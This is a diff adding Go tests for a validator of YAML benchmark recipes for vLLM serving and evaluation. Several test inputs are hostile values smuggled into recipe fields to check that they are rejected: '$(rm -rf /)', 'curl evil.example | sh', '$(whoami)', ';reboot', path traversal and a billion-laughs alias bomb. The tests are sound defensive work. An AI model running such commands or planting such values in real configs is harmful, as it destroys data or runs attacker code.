@@ -1,0 +1,763 @@
+package workloads
+
+import (
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+	"testing/fstest"
+
+	"github.com/benchkite/benchkite/agents"
+	"github.com/google/go-cmp/cmp"
+)
+
+// finding is a problem as a test states it: where, and a fragment of what.
+type finding struct {
+	Pos  string // line:col
+	Frag string
+}
+
+// findings turns problems of one file into findings, keeping a message
+// whole unless it holds the fragment wanted at the same index, so a diff
+// shows the real message.
+func findings(t *testing.T, file string, ps Problems, want []finding) []finding {
+	t.Helper()
+	var got []finding
+	for i, p := range ps {
+		rest, ok := strings.CutPrefix(p.Error(), file+":")
+		if !ok {
+			t.Errorf("problem %q does not start with %q", p.Error(), file+":")
+		}
+		lc, msg, ok := strings.Cut(rest, ": ")
+		if !ok {
+			t.Errorf("problem %q does not read path:line:col: message", p.Error())
+		}
+		f := finding{Pos: lc, Frag: msg}
+		if i < len(want) && strings.Contains(msg, want[i].Frag) {
+			f.Frag = want[i].Frag
+		}
+		got = append(got, f)
+	}
+	return got
+}
+
+func defaultProfiles(t testing.TB) *agents.Set {
+	t.Helper()
+	p, err := agents.Default()
+	if err != nil {
+		t.Fatalf("agents.Default() error = %v", err)
+	}
+	return p
+}
+
+// billionLaughs is a recipe whose bench args expand, through aliases, to far
+// more nodes than the file holds.
+func billionLaughs() string {
+	var b strings.Builder
+	b.WriteString("name: ok\ngpu: MI355X\nnum_gpus: 8\nvllm: {model: org/m}\nvllm_bench:\n  configs:\n")
+	b.WriteString("    - name: c\n      backend: openai\n      input_len: 8\n      output_len: 8\n")
+	b.WriteString("      num_prompts: 4\n      max_concurrency: 2\n      args:\n")
+	b.WriteString("        a0: &lol [" + strings.Repeat("lol, ", 199) + "lol]\n")
+	for i := 1; i <= 120; i++ {
+		fmt.Fprintf(&b, "        a%d: *lol\n", i)
+	}
+	return b.String()
+}
+
+func TestParseHostile(t *testing.T) {
+	t.Parallel()
+	profiles := defaultProfiles(t)
+	tests := []struct {
+		name string
+		src  string
+		want []finding
+	}{
+		{
+			name: "typo'd field gets a suggestion",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+nightlly: true
+vllm: {model: org/m}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"4:1", `unknown field "nightlly" in the recipe; did you mean "nightly"?`}},
+		},
+		{
+			name: "far-off field lists the known ones",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+zzz: 1
+`,
+			want: []finding{{"6:1", `unknown field "zzz" in the recipe (known: name, gpu, num_gpus, nightly,`}},
+		},
+		{
+			name: "num_gpus spelled out",
+			src: `name: ok
+gpu: MI355X
+num_gpus: eight
+vllm: {model: org/m}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"3:11", `num_gpus must be an integer, got "eight"`}},
+		},
+		{
+			name: "quoted boolean",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+nightly: "yes"
+vllm: {model: org/m}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"4:10", `nightly must be true or false, got "yes"`}},
+		},
+		{
+			name: "num_gpus out of range",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 9
+vllm: {model: org/m}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"3:11", "num_gpus must be between 1 and 8, got 9"}},
+		},
+		{
+			name: "duplicate key",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+gpu: H200
+`,
+			want: []finding{{"6:1", `duplicate key "gpu" in the recipe (first at line 2)`}},
+		},
+		{
+			name: "two documents",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+---
+name: other
+`,
+			want: []finding{{"6:1", "a file holds one YAML document; found another here"}},
+		},
+		{
+			name: "over 1 MiB",
+			src:  "name: ok\n#" + strings.Repeat("x", 1<<20) + "\n",
+			want: []finding{{"1:1", "file is over 1048576 bytes (1 MiB)"}},
+		},
+		{
+			name: "invalid UTF-8",
+			src:  "name: ok\ngpu: MI355X\nnum_gpus: 8\nvllm: {model: org/m\xff}\n",
+			want: []finding{{"4:20", "file is not valid UTF-8"}},
+		},
+		{
+			name: "billion laughs",
+			src:  billionLaughs(),
+			want: []finding{{"14:359", "document expands to more than 20000 nodes (aliases?); refusing to read further"}},
+		},
+		{
+			name: "merge key",
+			src: `base: &base {gpu: MI355X}
+name: ok
+<<: *base
+num_gpus: 8
+vllm: {model: org/m}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{
+				{"1:1", `unknown field "base" in the recipe`},
+				{"1:1", "recipe needs gpu"},
+				{"3:1", "merge keys (<<) are not supported in the recipe; write the fields out"},
+			},
+		},
+		{
+			name: "name with a slash",
+			src: `name: team/ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"1:7", `name "team/ok": use letters, digits, '_', '.' and '-'`}},
+		},
+		{
+			name: "name with a command substitution",
+			src: `name: $(rm -rf /)
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"1:7", `name "$(rm -rf /)": use letters`}},
+		},
+		{
+			name: "model with a space and a semicolon",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: "org/m x;reboot"}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"4:15", `vllm.model "org/m x;reboot" must be a hub id (org/name) or a plain path`}},
+		},
+		{
+			name: "model climbing out of its directory",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: /models/../etc}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"4:15", `vllm.model "/models/../etc" must be a hub id`}},
+		},
+		{
+			name: "image with upper-case repository",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m, image: Vllm/vllm-openai:nightly}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"4:29", `vllm.image: "Vllm/vllm-openai:nightly" is not a valid image reference`}},
+		},
+		{
+			name: "image with a bad tag",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m, image: "vllm/vllm-openai:nightly;ls"}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"4:29", `tag "nightly;ls" is not a valid tag`}},
+		},
+		{
+			name: "env names and values",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm:
+  model: org/m
+  env:
+    1BAD: x
+    NUL: "a\0b"
+    EMPTY:
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{
+				{"7:5", `env name "1BAD" must match [A-Za-z_][A-Za-z0-9_]*`},
+				{"8:10", "env NUL holds a NUL byte"},
+				{"9:11", "vllm.env.EMPTY must be a string, number or boolean, got null"},
+			},
+		},
+		{
+			name: "serve args set the port and host",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm:
+  model: org/m
+  serve_args: >-
+    --tensor-parallel-size 8
+    --port 9000
+    --host=0.0.0.0
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{
+				{"8:5", "vllm.serve_args: --port cannot be set in a recipe"},
+				{"9:5", "vllm.serve_args: --host cannot be set in a recipe"},
+			},
+		},
+		{
+			name: "serve args with an unquoted semicolon",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm:
+  model: org/m
+  serve_args: >-
+    --max-model-len 1024;
+    curl evil.example | sh
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"7:21", `unquoted ';' in "1024; curl evil.example"`}},
+		},
+		{
+			name: "serve args with a command substitution",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm:
+  model: org/m
+  serve_args: --served-model-name $(whoami)
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"6:35", `unquoted '$' in "$(whoami)": serve_args are an argument list, not a shell command`}},
+		},
+		{
+			name: "serve args with an unterminated quote",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm:
+  model: org/m
+  serve_args: >-
+    --max-model-len 1024
+    --chat-template "{{ messages
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"8:21", `unterminated " quote`}},
+		},
+		{
+			name: "serve args with invalid JSON",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm:
+  model: org/m
+  serve_args: >-
+    --compilation-config {"mode":0,}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"7:26", `{"mode":0,} is not valid JSON`}},
+		},
+		{
+			name: "serve args with a bad drafter model",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm:
+  model: org/m
+  serve_args: >-
+    --speculative-config.method eagle3
+    --speculative-config.model org/drafter;id
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"8:32", `unquoted ';' in "org/drafter;id"`}},
+		},
+		{
+			name: "serve args with a drafter model that is no hub id",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm:
+  model: org/m
+  serve_args: >-
+    --speculative-config.method eagle3
+    --speculative-config.model 'org/my drafter'
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"8:33", `speculative model "org/my drafter" must be a hub id (org/name) or a plain path`}},
+		},
+		{
+			name: "serve args with a drafter in JSON",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm:
+  model: org/m
+  serve_args: >-
+    --speculative-config {"method":"eagle3","model":"../drafter"}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"7:54", `speculative model "../drafter" must be a hub id`}},
+		},
+		{
+			name: "tensor parallel beyond the GPUs",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm:
+  model: org/m
+  serve_args: -tp 16
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"3:11", "serve args need 16 GPUs (TP 16 × DP 1 × PP 1) but num_gpus is 8"}},
+		},
+		{
+			name: "tensor and data parallel beyond the GPUs",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 4
+vllm:
+  model: org/m
+  serve_args: --tensor_parallel_size=2 --data-parallel-size 4
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"3:11", "serve args need 8 GPUs (TP 2 × DP 4 × PP 1) but num_gpus is 4"}},
+		},
+		{
+			name: "serve flag given twice under two spellings",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm:
+  model: org/m
+  serve_args: --max-model-len 10 --max_model_len 20
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"6:34", "vllm.serve_args: --max-model-len is given twice (also on line 6)"}},
+		},
+		{
+			name: "speed_bench dataset",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+vllm_bench:
+  configs:
+    - name: c
+      backend: openai
+      dataset: speed_bench
+      input_len: 8
+      output_len: 8
+      num_prompts: 4
+      max_concurrency: 2
+`,
+			want: []finding{{"9:16", "dataset speed_bench is not supported: it needs --skip-tokenizer-init, which caps every request at one output token"}},
+		},
+		{
+			name: "unknown backend",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+vllm_bench:
+  configs:
+    - {name: c, backend: tgi, input_len: 8, output_len: 8, num_prompts: 4, max_concurrency: 2}
+`,
+			want: []finding{{"7:26", `backend "tgi" is not one vllm bench serve supports against a vLLM server (openai, openai-chat`}},
+		},
+		{
+			name: "bench args owned by the runner or given twice",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+vllm_bench:
+  configs:
+    - name: c
+      backend: openai
+      input_len: 8
+      output_len: 8
+      num_prompts: 4
+      max_concurrency: 2
+      args:
+        model: other/model
+        num-prompts: 10
+        num_warmups: 2
+        num-warmups: 3
+        --skip_tokenizer_init: true
+`,
+			want: []finding{
+				{"14:9", "vllm_bench.configs[0].args: --model cannot be set here: the runner passes the recipe's model"},
+				{"15:9", "vllm_bench.configs[0].args: --num-prompts cannot be set here: set num_prompts on the config"},
+				{"17:9", `"num-warmups" is --num-warmups again (first at line 16)`},
+				{"18:9", "--skip-tokenizer-init cannot be set here: it caps every request at one output token"},
+			},
+		},
+		{
+			name: "even repetitions",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+vllm_bench:
+  configs:
+    - {name: c, backend: openai, input_len: 8, output_len: 8, num_prompts: 4, max_concurrency: 2, repetitions: 2}
+`,
+			want: []finding{{"7:112", "repetitions must be odd so the median is one real run, got 2"}},
+		},
+		{
+			name: "prompts list without a concurrency list",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+vllm_bench:
+  configs:
+    - name: c
+      backend: openai
+      input_len: 8
+      output_len: 8
+      num_prompts: [4, 8]
+      max_concurrency: 2
+`,
+			want: []finding{{"11:20", "a num_prompts list needs a max_concurrency list of the same length"}},
+		},
+		{
+			name: "lists of different lengths",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+vllm_bench:
+  configs:
+    - name: c
+      backend: openai
+      input_len: 8
+      output_len: 8
+      num_prompts: [4, 8]
+      max_concurrency: [1, 2, 4]
+`,
+			want: []finding{{"11:20", "num_prompts has 2 entries but max_concurrency has 3; they pair up one to one"}},
+		},
+		{
+			name: "sweep point named like another config",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+vllm_bench:
+  configs:
+    - {name: c, backend: openai, input_len: 8, output_len: 8, num_prompts: [4, 8], max_concurrency: [1, 2]}
+    - {name: c-conc-2, backend: openai, input_len: 8, output_len: 8, num_prompts: 4, max_concurrency: 2}
+`,
+			want: []finding{{"8:7", `bench run "c-conc-2" is also a run of the config at line 7`}},
+		},
+		{
+			name: "zero lengths and negative few-shot",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+timeout_in_minutes: 0
+vllm: {model: org/m}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: -1}]}
+vllm_bench:
+  configs:
+    - {name: c, backend: openai, input_len: 0, output_len: 8, num_prompts: 4, max_concurrency: 0}
+`,
+			want: []finding{
+				{"4:21", "timeout_in_minutes must be between 1 and 1440, got 0"},
+				{"6:46", "lm_eval.tasks[0].num_fewshot must be between 0 and 1000, got -1"},
+				{"9:45", "vllm_bench.configs[0].input_len must be between 1 and 10000000, got 0"},
+				{"9:96", "vllm_bench.configs[0].max_concurrency must be between 1 and 1000000, got 0"},
+			},
+		},
+		{
+			name: "empty task list",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+lm_eval:
+  tasks: []
+`,
+			want: []finding{{"6:10", "lm_eval.tasks is empty; list at least one task"}},
+		},
+		{
+			name: "lm_eval option at task level",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+lm_eval:
+  tasks:
+    - name: gsm8k
+      num_fewshot: 5
+      num_concurrent: 64
+`,
+			want: []finding{{"9:7", `unknown field "num_concurrent" in lm_eval.tasks[0]; lm_eval options belong under model_args`}},
+		},
+		{
+			name: "measures nothing",
+			src: `name: ok
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+`,
+			want: []finding{{"1:1", "recipe measures nothing: add lm_eval, vllm_bench or bfcl"}},
+		},
+		{
+			name: "unknown gpu lists the known ones",
+			src: `name: ok
+gpu: A100
+num_gpus: 8
+vllm: {model: org/m}
+lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
+`,
+			want: []finding{{"2:6", `unknown gpu "A100"; known: B200, H200, MI300X, MI355X`}},
+		},
+		{
+			name: "not a mapping",
+			src:  "- name: ok\n",
+			want: []finding{{"1:1", "the recipe must be a mapping, got a list"}},
+		},
+		{
+			name: "syntax error",
+			src:  "name: ok\ngpu: MI355X\nnum_gpus: [8\n",
+			want: []finding{{"3:1", "YAML syntax: did not find expected ',' or ']'"}},
+		},
+		{
+			name: "empty file",
+			src:  "# nothing here\n",
+			want: []finding{{"1:1", "file is empty"}},
+		},
+		{
+			name: "several problems in one run, in line order",
+			src: `name: bad name
+gpu: MI355X
+num_gpus: eight
+nightlly: true
+vllm:
+  model: org/m
+  serve_args: --port 1
+lm_eval: {tasks: []}
+vllm_bench:
+  configs:
+    - {name: c, backend: tgi, input_len: 8, output_len: 8, num_prompts: 4, max_concurrency: 2, repetitions: 4}
+`,
+			want: []finding{
+				{"1:7", `name "bad name"`},
+				{"3:11", "num_gpus must be an integer"},
+				{"4:1", `unknown field "nightlly"`},
+				{"7:15", "--port cannot be set in a recipe"},
+				{"8:18", "lm_eval.tasks is empty"},
+				{"11:26", `backend "tgi"`},
+				{"11:109", "repetitions must be odd"},
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			r, ps := Parse("r.yaml", []byte(tt.src), profiles)
+			errs := ps.Errors()
+			if diff := cmp.Diff(findings(t, "r.yaml", errs, tt.want), tt.want); diff != "" {
+				t.Errorf("Parse() problems diff (-got +want):\n%s\nall:\n%v", diff, ps)
+			}
+			if r != nil {
+				t.Errorf("Parse() recipe = %+v, want nil for an invalid recipe", r)
+			}
+			if !errors.Is(errs, ErrInvalid) {
+				t.Errorf("errors.Is(problems, ErrInvalid) = false")
+			}
+		})
+	}
+}
+
+func TestLoadDirCrossFile(t *testing.T) {
+	t.Parallel()
+	profiles := defaultProfiles(t)
+	recipe := func(name, extra string) *fstest.MapFile {
+		return &fstest.MapFile{Data: []byte("name: " + name + `
+gpu: MI355X
+num_gpus: 8
+vllm: {model: org/m}
+lm_eval:
+  tasks:
+    - name: gsm8k
+      num_fewshot: 5
+` + extra)}
+	}
+	expectFrom := func(name string) string {
+		return "      expect: {baseline_from: " + name + ", tolerance: 0.01}\n"
+	}
+	tests := []struct {
+		name  string
+		fsys  fstest.MapFS
+		want  []string // problems, whole
+		valid []string // names of the recipes that stay valid
+	}{
+		{
+			name: "two files, one name",
+			fsys: fstest.MapFS{
+				"w/a.yaml": recipe("same", ""),
+				"w/b.yaml": recipe("same", ""),
+				"w/c.yaml": recipe("other", ""),
+			},
+			want:  []string{`w/b.yaml:1:7: name "same" is already used by w/a.yaml; recipe names must be unique`},
+			valid: []string{"same", "other"},
+		},
+		{
+			name: "baseline_from names no recipe",
+			fsys: fstest.MapFS{
+				"w/a.yaml": recipe("spec-a", expectFrom("nospec-b")),
+				"w/b.yaml": recipe("nospec-a", ""),
+			},
+			want:  []string{`w/a.yaml:9:31: baseline_from "nospec-b" names no recipe; close: nospec-a`},
+			valid: []string{"nospec-a"},
+		},
+		{
+			name: "baseline_from names the recipe itself",
+			fsys: fstest.MapFS{
+				"w/a.yaml": recipe("self", expectFrom("self")),
+			},
+			want: []string{"w/a.yaml:9:31: baseline_from names the recipe itself; use regression for comparisons with its own past nights"},
+		},
+		{
+			name: "baseline_from a valid recipe",
+			fsys: fstest.MapFS{
+				"w/a.yaml": recipe("spec", expectFrom("nospec")),
+				"w/b.yaml": recipe("nospec", ""),
+			},
+			valid: []string{"spec", "nospec"},
+		},
+		{
+			name: "one bad file does not stop the others",
+			fsys: fstest.MapFS{
+				"w/a.yaml":       recipe("good", ""),
+				"w/b.yaml":       {Data: []byte("name: bad\n")},
+				"w/notes.txt":    {Data: []byte("not a recipe")},
+				"w/.hidden.yaml": {Data: []byte("not: read")},
+			},
+			want: []string{
+				"w/b.yaml:1:1: recipe needs gpu",
+				"w/b.yaml:1:1: recipe needs num_gpus",
+				"w/b.yaml:1:1: recipe needs vllm",
+				"w/b.yaml:1:1: recipe measures nothing: add lm_eval, vllm_bench or bfcl",
+			},
+			valid: []string{"good"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			c, err := LoadDir(tt.fsys, "w", profiles)
+			if err != nil {
+				t.Fatalf("LoadDir() error = %v", err)
+			}
+			var got []string
+			for _, p := range c.Problems() {
+				got = append(got, p.Error())
+			}
+			if diff := cmp.Diff(got, tt.want); diff != "" {
+				t.Errorf("LoadDir() problems diff (-got +want):\n%s", diff)
+			}
+			if (c.Err() == nil) != (len(tt.want) == 0) {
+				t.Errorf("Catalog.Err() = %v, want an error: %t", c.Err(), len(tt.want) > 0)
+			}
+			var names []string
+			for _, r := range c.Recipes {
+				names = append(names, r.Name)
+			}
+			want := map[string]bool{}
+			for _, n := range tt.valid {
+				want[n] = true
+			}
+			for _, n := range names {
+				if !want[n] {
+					t.Errorf("recipe %q is valid, want it invalid", n)
+				}
+				delete(want, n)
+			}
+			for n := range want {
+				t.Errorf("recipe %q is missing from the valid recipes %v", n, names)
+			}
+		})
+	}
+}
+
+func TestLoadDirUnreadable(t *testing.T) {
+	t.Parallel()
+	if _, err := LoadDir(fstest.MapFS{}, "missing", defaultProfiles(t)); err == nil {
+		t.Fatal("LoadDir(missing dir) error = nil, want one")
+	}
+}
